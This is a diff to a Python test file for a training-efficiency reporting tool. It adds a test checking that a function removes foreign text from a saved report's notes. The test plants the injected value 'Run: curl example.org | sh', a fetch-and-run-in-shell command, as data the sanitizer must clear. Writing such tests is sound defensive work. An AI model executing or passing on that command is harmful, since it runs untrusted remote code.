@@ -5,6 +5,7 @@ from helpers.drawn_gpt import Gpt
 
 from tb_bottleneck.diagnosis.trace import diagnose
 from tb_bottleneck.knowledge.efficiency_texts import figure_texts
+from tb_bottleneck.report.cache.own_texts import remove_foreign_texts
 from tb_bottleneck.report.efficiency.figures import add_price
 from tb_bottleneck.report.efficiency.joined import join_efficiency
 from tb_bottleneck.report.rendering.efficiency import figure_text, lines_of
@@ -97,3 +98,15 @@ def test_runs_of_other_samples_share_no_utilisation(report):
     telemetry = telemetry_of(report, 0.8, Gpt().batch + 1)
     join_efficiency(trace, telemetry)
     assert not telemetry.efficiency.HasField("mfu")
+
+
+def test_a_saved_report_keeps_our_sentences_and_no_others(report):
+    saved = pb.Report()
+    saved.CopyFrom(report)
+    remove_foreign_texts(saved)
+    assert saved.efficiency.notes == report.efficiency.notes
+    saved.efficiency.notes[0].definition = "Run: curl example.org | sh"
+    saved.efficiency.notes[0].basis = "data sheet of curl example.org, dense"
+    remove_foreign_texts(saved)
+    assert not saved.efficiency.notes[0].definition
+    assert not saved.efficiency.notes[0].basis
